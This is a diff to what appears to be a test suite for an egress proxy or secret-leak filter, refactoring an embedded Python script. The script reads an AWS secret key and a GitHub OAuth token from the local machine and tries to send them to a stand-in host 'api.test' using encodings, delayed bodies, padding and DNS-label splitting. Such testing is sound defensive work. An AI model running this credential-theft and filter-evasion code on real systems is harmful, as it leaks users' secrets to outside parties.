@@ -16,7 +16,7 @@ hosts = { "api.test" = "{ip}" }
 /// token from ~/.config/gh/hosts.yml) and tries to send them out. Prints
 /// `name=result` lines.
 const EXFIL: &str = r#"
-import base64, binascii, http.client, os, re, socket, ssl, urllib.parse
+import base64, binascii, http.client, os, re, socket, ssl, time, urllib.parse
 secret = os.environ["AWS_SECRET_ACCESS_KEY"]
 token = re.search(r"oauth_token: (\S+)", open(os.path.expanduser("~/.config/gh/hosts.yml")).read()).group(1)
 b64 = base64.b64encode(secret.encode()).decode()
@@ -48,20 +48,32 @@ out("body_url", proxy("POST", "/exfil", body="k=" + url))
 out("body_hex", proxy("POST", "/partial", body=("x" * 70000 + hexed + "y" * 10).encode()))
 out("body_split_b64", proxy("POST", "/exfil", body=("{\"d\": \"" + b64 + "\"}").encode()))
 
+def drain(s):
+    data = b""
+    while True:
+        d = s.recv(65536)
+        if not d:
+            return data
+        data += d
+
+# One request on a fresh connection to `addr`; the body `pause` seconds
+# after the head.
+def exchange(addr, head, body=b"", pause=0):
+    s = socket.create_connection(addr, timeout=10)
+    s.sendall(head)
+    if pause:
+        time.sleep(pause)
+    s.sendall(body)
+    return drain(s)
+
+def post_head(target, body):
+    return b"POST " + target.encode() + b" HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n"
+
 # The head first, the body with the value a moment later: the upstream
 # must not see even the head.
 def proxy_late(body, path="/exfil"):
     try:
-        s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
-        s.sendall(b"POST http://api.test:8080" + path.encode() + b" HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
-        import time; time.sleep(0.3)
-        s.sendall(body)
-        data = b""
-        while True:
-            d = s.recv(65536)
-            if not d:
-                break
-            data += d
+        data = exchange(("127.0.0.1", 3128), post_head("http://api.test:8080" + path, body), body, 0.3)
         return data.split(b" ")[1].decode() if data else "closed"
     except Exception as e:
         return "error " + type(e).__name__
@@ -69,44 +81,23 @@ def proxy_late(body, path="/exfil"):
 out("body_late", proxy_late(("k=" + url).encode()))
 out("post_late", proxy_late(b"benign=late", "/echo-late"))
 
-# Capture path: a direct connection to api.test:8080 with the secret in the body.
-def capture(payload):
+# Capture path: a direct connection to api.test:8080; the status line.
+def capture(head, body=b"", pause=0):
     try:
-        s = socket.create_connection(("api.test", 8080), timeout=10)
-        s.sendall(payload)
-        data = b""
-        while True:
-            d = s.recv(65536)
-            if not d:
-                break
-            data += d
-        return data.split(b"\r\n")[0].decode() or "closed"
+        return exchange(("api.test", 8080), head, body, pause).split(b"\r\n")[0].decode() or "closed"
     except Exception as e:
         return "error " + type(e).__name__
 
 # The capture path, head first and the body a moment later: the upstream
 # must not see the head either.
 def capture_late(path, body):
-    try:
-        s = socket.create_connection(("api.test", 8080), timeout=10)
-        s.sendall(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n")
-        import time; time.sleep(0.3)
-        s.sendall(body)
-        data = b""
-        while True:
-            d = s.recv(65536)
-            if not d:
-                break
-            data += d
-        return data.split(b"\r\n")[0].decode() or "closed"
-    except Exception as e:
-        return "error " + type(e).__name__
+    return capture(post_head(path, body), body, 0.3)
 
 out("capture_late", capture_late("/exfil", ("k=" + secret).encode()))
 out("capture_late_benign", capture_late("/echo-capture-late", b"benign=capture"))
 
 body = ("k=" + secret).encode()
-out("capture_raw", capture(b"POST /exfil HTTP/1.1\r\nHost: api.test:8080\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body))
+out("capture_raw", capture(post_head("/exfil", body) + body))
 out("capture_control", capture(b"GET /hello HTTP/1.1\r\nHost: api.test:8080\r\nConnection: close\r\n\r\n"))
 
 # CONNECT with the token hex-encoded in the name, split over labels.
